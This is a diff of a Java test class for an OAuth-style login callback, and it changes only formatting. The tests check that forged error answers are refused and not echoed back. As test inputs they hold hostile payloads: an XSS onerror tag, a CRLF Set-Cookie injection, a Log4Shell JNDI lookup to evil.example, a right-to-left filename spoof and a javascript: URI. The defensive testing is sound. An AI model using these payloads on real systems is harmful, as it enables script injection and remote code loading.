@@ -93,10 +93,12 @@ class ForgedAnswerTest extends FlowCase {
     @DisplayName("A-14 Mallory says no in Alice's name")
     void mallory_says_no_in_alices_name() {
         URI callback = caught(alice);
-        URI denied = query(callback, List.of(
-                new Browser.Field("error", "access_denied"),
-                new Browser.Field("state", parameter(callback, "state")),
-                new Browser.Field("iss", parameter(callback, "iss"))));
+        URI denied = query(
+                callback,
+                List.of(
+                        new Browser.Field("error", "access_denied"),
+                        new Browser.Field("state", parameter(callback, "state")),
+                        new Browser.Field("iss", parameter(callback, "iss"))));
 
         refused(world().visitor().browser(), denied, "state");
 
@@ -107,11 +109,18 @@ class ForgedAnswerTest extends FlowCase {
     @DisplayName("A-14 an error answer carries markup, line breaks, a script address and a hundred kilobytes")
     void an_error_answer_carries_markup_line_breaks_a_script_address_and_a_hundred_kilobytes() {
         for (String poison : List.of(
-                "<img src=x onerror=alert(1)>", "a\r\nSet-Cookie: evil=1", "${jndi:ldap://evil.example/a}", "\u202Egnp.exe", "x".repeat(7000))) {
+                "<img src=x onerror=alert(1)>",
+                "a\r\nSet-Cookie: evil=1",
+                "${jndi:ldap://evil.example/a}",
+                "\u202Egnp.exe",
+                "x".repeat(7000))) {
             Page answer = alice.browser().get(error(poison, poison), HTML);
 
             assertThat(answer.status()).isEqualTo(502);
-            assertThat(answer.body()).doesNotContain(poison).doesNotContain("onerror").doesNotContain("evil.example");
+            assertThat(answer.body())
+                    .doesNotContain(poison)
+                    .doesNotContain("onerror")
+                    .doesNotContain("evil.example");
             assertThat(answer.headers().map()).doesNotContainKey("evil");
             assertThat(answer.headers().allValues("Set-Cookie")).noneMatch(cookie -> cookie.contains("evil"));
         }
@@ -141,7 +150,11 @@ class ForgedAnswerTest extends FlowCase {
                 "POST",
                 world().url(CALLBACK),
                 callback.getRawQuery(),
-                Map.of("Content-Type", "application/x-www-form-urlencoded", "Origin", world().sandbox().baseUrl()));
+                Map.of(
+                        "Content-Type",
+                        "application/x-www-form-urlencoded",
+                        "Origin",
+                        world().sandbox().baseUrl()));
         assertThat(posted.status()).as("this provider answers by query").isBetween(400, 405);
         assertThat(traces()).isEqualTo(before);
 
@@ -170,10 +183,14 @@ class ForgedAnswerTest extends FlowCase {
         Visitor bob = world().visitor();
         Page form = bob.browser().open(world().url("/signup"));
         Map<String, String> fields = Map.of("name", "Bob Example", "email", bob.email(), "password", bob.password());
-        assertThat(bob.browser().submitOnly(form, "form[action='/signup']", fields).status()).isEqualTo(303);
+        assertThat(bob.browser()
+                        .submitOnly(form, "form[action='/signup']", fields)
+                        .status())
+                .isEqualTo(303);
 
         Page login = bob.browser().open(world().url("/login"));
-        Page in = bob.browser().submitOnly(login, "form[action='/login']", Map.of("email", bob.email(), "password", bob.password()));
+        Page in = bob.browser()
+                .submitOnly(login, "form[action='/login']", Map.of("email", bob.email(), "password", bob.password()));
         assertThat(in.status()).isEqualTo(303);
 
         String integration = "/integrations/" + bob.connected(Visitor.LINH_WORK);
@@ -184,12 +201,14 @@ class ForgedAnswerTest extends FlowCase {
 
     private URI error(String code, String description) {
         URI callback = caught(alice);
-        return query(callback, List.of(
-                new Browser.Field("error", code),
-                new Browser.Field("error_description", description),
-                new Browser.Field("error_uri", "javascript:alert(1)//evil.example"),
-                new Browser.Field("state", parameter(callback, "state")),
-                new Browser.Field("iss", parameter(callback, "iss"))));
+        return query(
+                callback,
+                List.of(
+                        new Browser.Field("error", code),
+                        new Browser.Field("error_description", description),
+                        new Browser.Field("error_uri", "javascript:alert(1)//evil.example"),
+                        new Browser.Field("state", parameter(callback, "state")),
+                        new Browser.Field("iss", parameter(callback, "iss"))));
     }
 
     private long rowsWith(String text) {
